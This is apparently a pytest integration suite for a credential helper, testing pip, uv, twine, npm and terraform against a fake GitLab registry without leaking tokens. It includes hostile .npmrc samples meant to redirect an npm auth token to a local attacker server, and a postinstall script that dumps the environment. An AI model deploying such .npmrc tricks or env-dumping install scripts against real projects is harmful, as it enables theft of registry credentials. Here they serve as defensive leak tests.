"""Real pip, uv, twine and npm against the fake GitLab's package registries, with no
credentials anywhere but credhelper's: pip/uv/twine through the keyring backend, npm through
the .npmrc that `credhelper npmrc` writes and the variable it names."""

import itertools
import json
import os
import subprocess
import sys
import uuid

import pytest

from tests.conftest import credhelper, write_config
from tests.support.packages import NpmTarball, _targz, build_wheel, publish_wheel
from tests.support.recording_server import RecordingHTTPSServer

_names = ("pkgs-%s-%d" % (uuid.uuid4().hex[:6], n) for n in itertools.count())
VENV_BIN = os.path.dirname(sys.executable)


@pytest.fixture
def host(gitlab, home):
    """The GitLab host as package clients reach it (they resolve names with DNS)."""
    name = "localhost:%d" % gitlab.port
    write_config(home, '[hosts."%s"]\nca_file = "%s"\n' % (name, gitlab.ca.ca_file))
    return name


@pytest.fixture
def project(gitlab):
    path = "pkgs/%s" % next(_names)
    gitlab.state.add_project(path, members={"alice": "developer"})
    return gitlab.state.project(path)


def client_env(gitlab, **extra):
    """pip/uv/twine trust the test CA; nothing credential-like leaks in from the machine."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("PIP_", "UV_", "TWINE_")) and k not in (
               "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE")}
    env.update(PIP_CERT=gitlab.ca.ca_file, SSL_CERT_FILE=gitlab.ca.ca_file,
               PIP_CONFIG_FILE=os.devnull, PIP_NO_INPUT="1", PIP_DISABLE_PIP_VERSION_CHECK="1",
               UV_NO_CONFIG="1", UV_CACHE_DIR=os.path.join(os.environ["HOME"], "uv-cache"))
    env.update(extra)
    return env


def call(argv, env, **options):
    return subprocess.run(argv, capture_output=True, text=True, timeout=180, env=env, **options)


def index(gitlab, project, user=""):
    base = "https://%slocalhost:%d" % (user, gitlab.port)
    return gitlab.packages.pypi_index_url(base, project.id)


def carried(gitlab, secret):
    return [r for r in gitlab.requests.carrying(secret) if "/packages/" in r.path]


@pytest.mark.parametrize("provider", ["import", "subprocess"])
def test_pip_install_with_credentials_only_from_credhelper(gitlab, host, project, tmp_path,
                                                           provider):
    name = next(_names)
    publish_wheel(gitlab.state, project.path, name, "1.0.0")
    token = gitlab.state.create_pat("alice", ["read_api"]).token
    credhelper("add", host, input=token)
    # pip's subprocess provider needs the username in the URL (pip's documented rule), and
    # ignores a `keyring` command from its own environment: use the link install.sh makes
    url = index(gitlab, project, "__token__@" if provider == "subprocess" else "")
    links = tmp_path / "local-bin"
    links.mkdir()
    os.symlink(os.path.join(VENV_BIN, "keyring"), links / "keyring")
    env = client_env(gitlab, PATH="%s:%s" % (links, os.environ["PATH"]))
    done = call([sys.executable, "-m", "pip", "install", "--no-deps", "--keyring-provider",
                 provider, "--index-url", url, "--target", str(tmp_path / "t"), name], env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert (tmp_path / "t" / name.replace("-", "_")).exists()
    assert carried(gitlab, token) and token not in done.stdout + done.stderr


def test_uv_pip_install_with_the_subprocess_keyring(gitlab, host, project, tmp_path):
    name = next(_names)
    publish_wheel(gitlab.state, project.path, name, "2.0.0")
    token = gitlab.state.create_pat("alice", ["read_api"]).token
    credhelper("add", host, input=token)
    done = call([os.path.join(VENV_BIN, "uv"), "pip", "install", "--no-deps", "--target",
                 str(tmp_path / "t"), "--keyring-provider", "subprocess", "--index-url",
                 index(gitlab, project, "__token__@"), name], client_env(gitlab))
    assert done.returncode == 0, done.stdout + done.stderr
    assert (tmp_path / "t" / name.replace("-", "_")).exists()
    assert carried(gitlab, token)


def test_twine_upload_with_a_write_token_and_not_with_a_read_only_deploy_token(
        gitlab, host, project, tmp_path):
    name = next(_names)
    dist = build_wheel(name, "3.0.0")
    (tmp_path / dist.filename).write_bytes(dist.data)
    upload_url = gitlab.packages.pypi_upload_url("https://%s" % host, project.id)
    reader = gitlab.state.create_deploy_token(project.path, ["read_package_registry"],
                                              username="pkg-reader")
    credhelper("add", host, "--username", "pkg-reader", "--scopes", "read_package_registry",
               input=reader.token)
    twine = [os.path.join(VENV_BIN, "twine"), "upload", "--non-interactive",
             "--repository-url", upload_url, "--username", "__token__",
             str(tmp_path / dist.filename)]
    refused = call(twine, client_env(gitlab, REQUESTS_CA_BUNDLE=gitlab.ca.ca_file))
    assert refused.returncode != 0 and "403" in refused.stdout + refused.stderr
    assert gitlab.state.find_package(project.path, "pypi", name, "3.0.0") is None
    writer = gitlab.state.create_pat("alice", ["api"]).token
    credhelper("add", host, input=writer)
    done = call(twine, client_env(gitlab, REQUESTS_CA_BUNDLE=gitlab.ca.ca_file))
    assert done.returncode == 0, done.stdout + done.stderr
    assert gitlab.state.find_package(project.path, "pypi", name, "3.0.0") is not None
    assert writer not in done.stdout + done.stderr


def npm_env(gitlab, tmp_path):
    """The shell a user runs npm from after following README's npm workflow: nothing set but
    npm's cache and the test CA (a user of a self-managed instance would set cafile once)."""
    return dict(os.environ, npm_config_cache=str(tmp_path / "npm-cache"),
                npm_config_update_notifier="false", npm_config_cafile=gitlab.ca.ca_file,
                npm_config_audit="false", npm_config_fund="false")


def publish_npm_with_install_script(state, project, name, version):
    """A package whose postinstall writes the environment npm gives it where npm ran."""
    package_json = {"name": name, "version": version, "main": "index.js", "license": "MIT",
                    "scripts": {"postinstall": "env > \"$INIT_CWD/env-seen-by-script\""}}
    data = _targz({"package/package.json": json.dumps(package_json).encode(),
                   "package/index.js": b"module.exports = 1;\n"})
    tarball = NpmTarball(name, version, data, package_json)
    state.add_package_file(project, "npm", name, version, tarball.filename, data, metadata={
        "package_json": dict(package_json, hasInstallScript=True, dist={
            "shasum": tarball.shasum, "integrity": tarball.integrity})})


def npm_project(directory, npmrc="", **dependencies):
    directory.mkdir()
    (directory / "package.json").write_text(json.dumps(
        {"name": directory.name, "version": "0.0.0", "dependencies": dependencies}))
    if npmrc:
        (directory / ".npmrc").write_text(npmrc)
    return directory


VARIABLE = "${CREDHELPER_NPM_TOKEN}"      # what the old README told users to export


def hostile_npmrcs(attacker_port, gitlab_path):
    """What a cloned repository's own .npmrc can try, to have npm send our token elsewhere:
    (its text, whether npm refuses it outright)."""
    evil = "https://127.0.0.1:%d" % attacker_port
    same_name = "https://localhost:%d%s" % (attacker_port, gitlab_path)
    return {
        "registry with its own token entry": (
            "registry=%s/\n//127.0.0.1:%d/:_authToken=%s\n" % (evil, attacker_port, VARIABLE),
            False),
        "scope with _authToken and _auth entries": (
            "@evil:registry=%s/scoped/\n//127.0.0.1:%d/scoped/:_authToken=%s\n"
            "//127.0.0.1:%d/:_auth=%s\n" % (evil, attacker_port, VARIABLE, attacker_port,
                                              VARIABLE), False),
        "our registry's path on another port": ("registry=%s\nalways-auth=true\n" % same_name,
                                                False),
        "another registry, always-auth": ("registry=%s/\nalways-auth=true\n" % evil, False),
        "unscoped _authToken and _auth": (
            "registry=%s/\n_authToken=%s\n_auth=%s\n" % (evil, VARIABLE, VARIABLE), True),
    }


def assert_nothing_of_ours(received, token, trick):
    """No token bytes anywhere; no Authorization header but one the hostile .npmrc wrote
    itself (its ${CREDHELPER_NPM_TOKEN}, unexpanded because no such variable exists)."""
    assert not [raw for _, _, raw in received if token.encode() in raw], trick
    sent = [v for _, headers, _ in received for k, v in headers.items()
            if k.lower() == "authorization"]
    assert all(VARIABLE in value for value in sent), (trick, sent)


def test_npm_token_goes_only_to_its_registry_and_into_no_environment(gitlab, host, project,
                                                                      tmp_path, home):
    """README's npm workflow (credhelper npmrc HOST --project ID): a hostile repository's own
    .npmrc cannot send the token to another registry, a dependency's install script does not
    see it, and npm install from GitLab works."""
    name = next(_names)
    publish_npm_with_install_script(gitlab.state, project.path, name, "1.2.3")
    token = gitlab.state.create_pat("alice", ["api"]).token
    credhelper("add", host, input=token)
    credhelper("npmrc", host, "--project", str(project.id))
    env = npm_env(gitlab, tmp_path)
    assert token not in json.dumps(env)
    path = "/api/v4/projects/%d/packages/npm/" % project.id
    with RecordingHTTPSServer(gitlab.ca) as attacker:
        for number, (trick, (npmrc, refused)) in enumerate(
                hostile_npmrcs(attacker.port, path).items()):
            before = len(attacker.received)
            repo = npm_project(tmp_path / ("hostile-%d" % number), npmrc,
                               **{"@evil/x": "1.0.0"})
            done = call(["npm", "install", "--ignore-scripts"], env, cwd=str(repo))
            got = attacker.received[before:]
            if refused:
                assert "ERR_INVALID_AUTH" in done.stderr and not got, trick
            else:
                assert got, "npm never asked the attacker (%s): %s" % (trick, done.stderr)
            assert_nothing_of_ours(got, token, trick)
            assert token not in done.stdout + done.stderr
    app = npm_project(tmp_path / "app")
    done = call(["npm", "install", name], env, cwd=str(app))
    assert done.returncode == 0, done.stdout + done.stderr
    assert (app / "node_modules" / name / "package.json").exists()
    assert carried(gitlab, token) and token not in done.stdout + done.stderr
    seen = (app / "env-seen-by-script").read_text()
    assert "npm_package_name=%s" % name in seen and token not in seen


def test_npm_after_a_rotation_works_again_once_the_user_config_is_refreshed(
        gitlab, host, project, tmp_path, home):
    """credhelper rotates the token (GitLab revokes the old one); npm's copy in ~/.npmrc is
    then stale until `credhelper npmrc --refresh`, as README says."""
    from tests.support.packages import publish_npm

    name = next(_names)
    publish_npm(gitlab.state, project.path, name, "1.0.0")
    token = gitlab.state.create_pat("alice", ["api"]).token
    credhelper("add", host, input=token)
    credhelper("npmrc", host, "--project", str(project.id))
    credhelper("rotate", host)
    new = credhelper("token", host).stdout.strip()
    assert new != token
    env = npm_env(gitlab, tmp_path)
    stale = call(["npm", "install", name], env, cwd=str(npm_project(tmp_path / "before")))
    assert stale.returncode != 0
    done = credhelper("npmrc", "--refresh")
    assert new not in done.stdout + done.stderr
    app = npm_project(tmp_path / "after")
    fresh = call(["npm", "install", name], env, cwd=str(app))
    assert fresh.returncode == 0, fresh.stdout + fresh.stderr
    assert (app / "node_modules" / name / "package.json").exists()
    assert (home / ".npmrc").read_text().count(new) == 1 and token not in (
        home / ".npmrc").read_text()


def test_terraform_init_gets_its_token_from_the_credentials_helper(gitlab, project, tmp_path,
                                                                   home):
    """The real terraform runs terraform-credentials-gitlab (found in its plugin directory)
    for the module registry host; the token is in no Terraform file."""
    from tests.support.packages import publish_terraform_module

    namespace = project.path.split("/")[0]
    publish_terraform_module(gitlab.state, project, "net", "aws", "1.0.0")
    host = "127.0.0.1:%d" % gitlab.port          # Terraform wants a dot in a registry host
    write_config(home, '[hosts."%s"]\nca_file = "%s"\n' % (host, gitlab.ca.ca_file))
    token = gitlab.state.create_pat("alice", ["read_api"]).token
    credhelper("add", host, input=token)
    plugins = home / ".terraform.d" / "plugins"
    plugins.mkdir(parents=True)
    os.symlink(os.path.join(VENV_BIN, "terraform-credentials-gitlab"),
               plugins / "terraform-credentials-gitlab")
    config = tmp_path / "terraform.rc"
    config.write_text('credentials_helper "gitlab" {\n  args = []\n}\n')
    work = tmp_path / "work"
    work.mkdir()
    (work / "main.tf").write_text('module "net" {\n  source  = "%s/%s/net/aws"\n'
                                  '  version = "1.0.0"\n}\n' % (host, namespace))
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TF_", "SSL_CERT"))}
    env.update(TF_CLI_CONFIG_FILE=str(config), SSL_CERT_FILE=gitlab.ca.ca_file,
               CHECKPOINT_DISABLE="1", TF_IN_AUTOMATION="1")
    done = call(["terraform", "init", "-input=false", "-no-color"], env, cwd=str(work))
    assert done.returncode == 0, done.stdout + done.stderr
    assert (work / ".terraform" / "modules" / "net" / "main.tf").exists()
    assert carried(gitlab, token) and token not in done.stdout + done.stderr
    assert token not in config.read_text()
